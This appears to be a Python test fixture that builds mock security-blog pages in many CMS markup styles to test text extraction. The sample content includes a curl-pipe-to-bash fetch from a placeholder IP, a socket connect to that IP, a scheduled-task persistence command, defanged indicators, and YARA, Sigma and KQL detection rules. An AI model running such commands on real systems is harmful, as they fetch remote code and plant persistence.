"""Pages in the shapes that security blogs have, with what must and must not be in the text."""

from dataclasses import dataclass

LEAD = (
    "During an incident in early spring our responders found a loader that nobody had described"
    " before. It arrived as an archive in a phishing message, started a signed binary and put its"
    " payload beside it, so that the operating system loaded the wrong library."
)
MIDDLE = (
    "The second stage talks to its operators over plain HTTP, hides commands in comments of a"
    " harmless looking page, and sleeps between two requests for a time that it takes from the"
    " length of the last answer. We saw it on nine hosts of three organisations."
)
CLOSE = (
    "Defenders should look for the scheduled task, for the library in an unusual folder and for"
    " requests to the hosts named below. All of them were still up when this text was written."
)
HASHES = (
    "9f3c1d0b7a6e54e2c1f0a9b8d7e6f5a4b3c2d1e0f9a8b7c6d5e4f3a2b1c0d9e8",
    "00aa11bb22cc33dd44ee55ff66778899aabbccddeeff00112233445566778899",
)
SCRIPT = 'schtasks /create /tn "Updater Core" /tr "C:\\ProgramData\\upd\\core.exe" /sc minute /mo 7'
RULE = 'rule Loader_Core {\n    strings:\n        $a = "core.exe -k"\n    condition:\n        $a\n}'
NAV = (
    '<header class="site-header"><nav><ul><li><a href="/">Home</a></li><li><a href="/products">'
    'Products</a></li><li><a href="/research">Research</a></li></ul></nav></header>'
)
FOOT = (
    '<div class="related-posts"><h3>Related posts</h3><div class="card"><a href="/b/1">Seven'
    " habits of tidy networks, and why the eighth one matters more than all the others together"
    "</a><p>A short look at what tidy networks have in common, with a checklist at the end of it"
    ' for you to print.</p></div></div><div class="newsletter-signup"><p>Subscribe to our'
    " newsletter and get a digest of our research every week, straight to your inbox, for free."
    '</p></div><footer class="site-footer"><p>Copyright 2026 Example Labs. All rights reserved.'
    " Privacy policy. Terms of service. Do not sell my data. Cookie settings. Imprint.</p></footer>"
)
FURNITURE = ("Seven habits", "Subscribe to our newsletter", "All rights reserved", "Products")


@dataclass(frozen=True)
class VendorPage:
    """A page, and the words its text must hold line by line."""

    name: str
    html: str
    wanted: tuple[str, ...]
    code: tuple[str, ...] = ()
    tables: int = 0
    details: int = 0
    refused: tuple[str, ...] = FURNITURE


def _page(name: str, article: str, extra: str = "") -> str:
    return (
        f"<!doctype html><html lang='en'><head><meta charset='utf-8'><title>{name} | Example Labs"
        f"</title></head><body class='single'>{NAV}{article}{extra}{FOOT}</body></html>"
    )


def _wordpress() -> VendorPage:
    body = f"""<main id="content"><article class="post type-post hentry"><h1 class="entry-title">A
    loader in nine hosts</h1><div class="entry-meta"><span class="author">By Ada Example</span>
    </div><div class="entry-content"><p>{LEAD}</p><h2>Persistence</h2>
    <pre class="wp-block-code"><code lang="powershell" class="language-powershell">{SCRIPT}</code>
    </pre><p>{MIDDLE}</p><h2>Indicators</h2><figure class="wp-block-table"><table><thead><tr>
    <th>Indicator</th><th>Type</th></tr></thead><tbody><tr><td>evil-updates[.]example</td>
    <td>Domain</td></tr><tr><td>203.0.113[.]77</td><td>IPv4</td></tr></tbody></table>
    <figcaption>Hosts of the second stage</figcaption></figure>
    <details class="wp-block-details"><summary>All file hashes</summary><pre>{HASHES[0]}
{HASHES[1]}</pre></details><p>{CLOSE}</p></div><div class="sharedaddy"><a href="#">Share this</a>
    </div></article></main>"""
    return VendorPage(
        "wordpress blocks", _page("A loader in nine hosts", body),
        ("evil-updates[.]example | Domain", "203.0.113[.]77 | IPv4", "All file hashes",
         "Hosts of the second stage", *HASHES),
        (SCRIPT, f"{HASHES[0]}\n{HASHES[1]}"), 1, 1,
    )  # fmt: skip


def _prism() -> VendorPage:
    body = f"""<div class="layout"><div class="blog-post"><div class="blog-post__body"><p>{LEAD}</p>
    <div class="code-toolbar"><pre class="language-yara line-numbers"><code class="language-yara">
{RULE}<span aria-hidden="true" class="line-numbers-rows"><span></span><span></span></span></code>
    </pre><div class="toolbar"><div class="toolbar-item"><button>Copy</button></div></div></div>
    <p>{MIDDLE}</p><div class="table-responsive"><table class="table table-striped"><tr>
    <td><strong>SHA-256</strong></td><td><strong>Name</strong></td></tr><tr><td><code>{HASHES[0]}
    </code></td><td>core.exe</td></tr></table></div><p>{CLOSE}</p></div></div></div>"""
    return VendorPage(
        "prism toolbar", _page("Rules for a loader", body),
        (f"{HASHES[0]} | core.exe",), (RULE,), 1,
    )  # fmt: skip


def _gist() -> VendorPage:
    rows = "".join(
        f'<tr><td id="L{n}" class="blob-num js-line-number" data-line-number="{n}"></td>'
        f'<td class="blob-code blob-code-inner js-file-line">{line}</td></tr>'
        for n, line in enumerate(RULE.split("\n"), 1)
    )
    body = f"""<section class="post-content"><p>{LEAD}</p><div id="gist1" class="gist"><div
    class="gist-file"><div class="gist-data"><div class="js-gist-file-update-container"><table
    class="highlight tab-size js-file-line-container"><tbody>{rows}</tbody></table></div></div>
    <div class="gist-meta"><a href="https://gist.example/raw">view raw</a></div></div></div>
    <p>{MIDDLE}</p><ul><li>evil-updates[.]example</li><li>hxxps://203.0.113[.]77/a/b?c=1</li></ul>
    <p>{CLOSE}</p></section>"""
    return VendorPage(
        "embedded gist", _page("A rule in a gist", body),
        ("- evil-updates[.]example", "- hxxps://203.0.113[.]77/a/b?c=1"), (RULE,),
    )  # fmt: skip


def _syntax_highlighter() -> VendorPage:
    lines = ["import socket", "s = socket.socket()", 's.connect(("203.0.113[.]77", 8443))']
    gutter = "".join(f'<div class="line number{n}">{n}</div>' for n in range(1, 4))
    code = "".join(f'<div class="line"><code class="plain">{line}</code></div>' for line in lines)
    body = f"""<div id="main"><div class="post"><div class="post-body entry-content"><div
    dir="ltr">{LEAD}<br><br>{MIDDLE}<br><br></div><div class="syntaxhighlighter python"><table
    border="0" cellpadding="0"><tbody><tr><td class="gutter">{gutter}</td><td class="code"><div
    class="container">{code}</div></td></tr></tbody></table></div><p>{CLOSE}</p>
    <p>Contact: <a class="__cf_email__" data-cfemail="543d3b37143126262627317a312c35392438312e">
    [email&#160;protected]</a></p></div></div></div>"""
    return VendorPage(
        "highlighter tables", _page("Three lines of Python", body),
        ('s.connect(("203.0.113[.]77", 8443))',), ("\n".join(lines),),
    )  # fmt: skip


def _jekyll() -> VendorPage:
    numbers = "\n".join(str(n) for n in range(1, RULE.count("\n") + 2))
    body = f"""<div class="page-content"><div class="wrapper"><article class="post"><header
    class="post-header"><h1 class="post-title">Notes on a loader</h1><p class="post-meta"><time
    datetime="2026-03-04T10:00:00+00:00">Mar 4, 2026</time></p></header><div class="post-content">
    <p>{LEAD}</p><div class="language-yara highlighter-rouge"><div class="highlight"><pre
    class="highlight"><code><table class="rouge-table"><tbody><tr><td class="rouge-gutter gl">
    <pre class="lineno">{numbers}
</pre></td><td class="rouge-code"><pre>{RULE}
</pre></td></tr></tbody></table></code></pre></div></div><p>{MIDDLE}</p><p>{CLOSE}</p></div>
    </article></div></div>"""
    return VendorPage("rouge table", _page("Notes on a loader", body), ("Loader_Core",), (RULE,))


def _hugo() -> VendorPage:
    numbers = "".join(f'<span class="lnt">{n}\n</span>' for n in range(1, 7))
    body = f"""<main class="content"><article class="prose"><p>{LEAD}</p><div class="highlight"><div
    class="chroma"><table class="lntable"><tr><td class="lntd"><pre tabindex="0"><code>{numbers}
</code></pre></td><td class="lntd"><pre tabindex="0"><code class="language-yara"
    data-lang="yara">{RULE}
</code></pre></td></tr></table></div></div><p>{MIDDLE}</p><h3>Network</h3><table><tr><th>Host</th>
    <th>Port</th></tr><tr><td>203.0.113[.]77</td><td>8443</td></tr></table><p>{CLOSE}</p></article>
    </main>"""
    return VendorPage(
        "chroma table", _page("Line numbers in a table", body), ("203.0.113[.]77 | 8443",),
        (RULE,), 1,
    )  # fmt: skip


def _corporate() -> VendorPage:
    text = '<div class="aem-Grid"><div class="text"><div class="cmp-text">{}</div></div></div>'
    body = f"""<div class="root responsivegrid"><div class="article-detail">
    {text.format(f"<p>{LEAD}</p>")}{text.format(f"<p>{MIDDLE}</p><h2>Command line</h2>")}
    <div class="codeblock"><pre>{SCRIPT}</pre></div>
    <div class="accordion"><div class="accordion-item"><h3 class="accordion-header">Indicators of
    compromise</h3><div class="accordion-collapse collapse" aria-hidden="true" style="display:none">
    <div class="cmp-table"><table><tbody><tr><td>Type</td><td>Value</td></tr><tr><td>URL</td>
    <td>hxxp://evil-updates[.]example/gate.php</td></tr><tr><td>Mail</td><td>ops[@]mail[.]example
    </td></tr></tbody></table></div></div></div></div>
    {text.format(f"<p>{CLOSE}</p>")}</div></div>"""
    return VendorPage(
        "corporate components", _page("Command lines", body),
        ("URL | hxxp://evil-updates[.]example/gate.php", "Mail | ops[@]mail[.]example"),
        (SCRIPT,), 1,
    )  # fmt: skip


def _drupal() -> VendorPage:
    body = f"""<div class="region region-content"><article class="node node--type-advisory"><div
    class="field field--name-body field--type-text-with-summary"><p>{LEAD}</p><details
    class="collapsible"><summary>Technical details</summary><div class="details-wrapper"><p>{MIDDLE}
    </p><table><caption>Files</caption><tr><th>File</th><th>SHA-256</th></tr><tr><td>core.exe</td>
    <td>{HASHES[0]}</td></tr><tr><td>core.dll</td><td>{HASHES[1]}</td></tr></table></div></details>
    <details open><summary>Query</summary><pre><code>DeviceProcessEvents
| where FileName == "core.exe"
| project Timestamp, DeviceName</code></pre></details><p>{CLOSE}</p></div></article></div>"""
    query = 'DeviceProcessEvents\n| where FileName == "core.exe"\n| project Timestamp, DeviceName'
    return VendorPage(
        "drupal details", _page("Advisory on a loader", body),
        (f"core.exe | {HASHES[0]}", f"core.dll | {HASHES[1]}", "Technical details", "Query"),
        (query,), 1, 2,
    )  # fmt: skip


def _hashed_classes() -> VendorPage:
    code = "".join(
        f'<span data-line=""><span style="--c:#fff">{line}</span></span>'
        for line in ("curl -s hxxp://203.0.113[.]77/x.sh \\", "  | bash -s -- --quiet")
    )
    body = f"""<div id="__next"><div class="Page_root__x1f"><div class="Grid_a9__k2"><div
    class="Copy_q7__p0"><p class="T_t1__aa">{LEAD}</p><figure data-rehype-pretty-code-figure="">
    <pre data-language="bash"><code data-language="bash">{code}</code></pre></figure>
    <p class="T_t1__aa">{MIDDLE}</p></div><div class="Copy_q7__p0"><h2>IOCs</h2><table><tbody><tr>
    <td>Domain</td><td>evil-updates[.]example</td></tr><tr><td>SHA-256</td><td>{HASHES[1]}</td></tr>
    </tbody></table><p class="T_t1__aa">{CLOSE}</p></div></div></div></div>"""
    return VendorPage(
        "hashed class names", _page("Shell in one line", body),
        ("Domain | evil-updates[.]example", f"SHA-256 | {HASHES[1]}"),
        ("curl -s hxxp://203.0.113[.]77/x.sh \\\n  | bash -s -- --quiet",), 1,
    )  # fmt: skip


def _hubspot() -> VendorPage:
    body = f"""<div class="body-container-wrapper"><div class="blog-section"><div
    class="blog-post-body post-body"><span id="hs_cos_wrapper_post_body"
    class="hs_cos_wrapper"><p><span>{LEAD}</span></p>
    <!--more--><p style="font-size:18px"><span>{MIDDLE}</span></p><table style="width:100%"><tbody>
    <tr style="height:20px"><td><p><strong>Address</strong></p></td><td><p><strong>Role</strong></p>
    </td></tr><tr><td><p>203.0.113[.]77</p><p>203.0.113[.]78</p></td><td><p>Command server</p></td>
    </tr></tbody></table><p>{CLOSE}</p><p>evil-updates[.]example<br>core-cdn[.]example<br>
    hxxp://core-cdn[.]example/p</p><div class="hs-embed"><pre><code>{SCRIPT}</code></pre></div>
    </span>    </div></div></div>"""
    return VendorPage(
        "hubspot spans", _page("Roles of servers", body),
        ("203.0.113[.]77 203.0.113[.]78 | Command server", "\ncore-cdn[.]example\n"), (SCRIPT,), 1,
    )  # fmt: skip


def _elementor() -> VendorPage:
    widget = (
        '<div class="elementor-element elementor-widget elementor-widget-text-editor"><div'
        ' class="elementor-widget-container">{}</div></div>'
    )
    body = f"""<div class="elementor elementor-location-single"><section class="elementor-section">
    <div class="elementor-container"><div class="elementor-column"><div
    class="elementor-widget-wrap">
    {widget.format(f"<p>{LEAD}</p>")}{widget.format(f"<p>{MIDDLE}</p>")}
    <div class="elementor-element elementor-widget elementor-widget-toggle"><div
    class="elementor-toggle"><div class="elementor-tab-title">Indicators</div><div
    class="elementor-tab-content" hidden="hidden"><ul><li>evil-updates[.]example</li><li>
    {HASHES[0]}</li></ul></div></div></div>
    <div class="elementor-element elementor-widget elementor-widget-code-highlight"><pre
    data-line="" class="highlight-height language-bash"><code readonly="true"
    class="language-bash"><xmp>{SCRIPT}</xmp></code></pre></div>
    {widget.format(f"<p>{CLOSE}</p>")}
    </div></div></div></section></div>"""
    return VendorPage(
        "elementor widgets", _page("Made of widgets", body),
        ("- evil-updates[.]example", HASHES[0]), (SCRIPT,),
    )  # fmt: skip


def _ghost() -> VendorPage:
    body = f"""<main class="gh-main"><article class="gh-article post"><section class="gh-content
    gh-canvas"><p>{LEAD}</p><div class="kg-card kg-toggle-card" data-kg-toggle-state="close"><div
    class="kg-toggle-heading"><h4 class="kg-toggle-heading-text">Sigma rule</h4><button
    class="kg-toggle-card-icon">x</button></div><div class="kg-toggle-content"><figure
    class="kg-card kg-code-card"><pre><code class="language-yaml">title: Task of the loader
logsource:
    product: windows
detection:
    selection:
        CommandLine|contains: 'Updater Core'
    condition: selection</code></pre><figcaption>Made by hand</figcaption></figure></div></div>
    <p>{MIDDLE}</p><div class="kg-card kg-callout-card"><div class="kg-callout-text">{CLOSE}</div>
    </div><dl><dt>MD5</dt><dd>5f4dcc3b5aa765d61d8327deb882cf99</dd></dl></section>
    </article></main>"""
    rule = (
        "title: Task of the loader\nlogsource:\n    product: windows\ndetection:\n    selection:\n"
        "        CommandLine|contains: 'Updater Core'\n    condition: selection"
    )
    return VendorPage(
        "ghost cards", _page("A rule in a card", body),
        ("Sigma rule", "Made by hand", "5f4dcc3b5aa765d61d8327deb882cf99"), (rule,),
    )  # fmt: skip


def vendor_pages() -> list[VendorPage]:
    """One page of every shape."""
    return [
        _wordpress(), _prism(), _gist(), _syntax_highlighter(), _jekyll(), _hugo(), _corporate(),
        _drupal(), _hashed_classes(), _hubspot(), _elementor(), _ghost(),
    ]  # fmt: skip
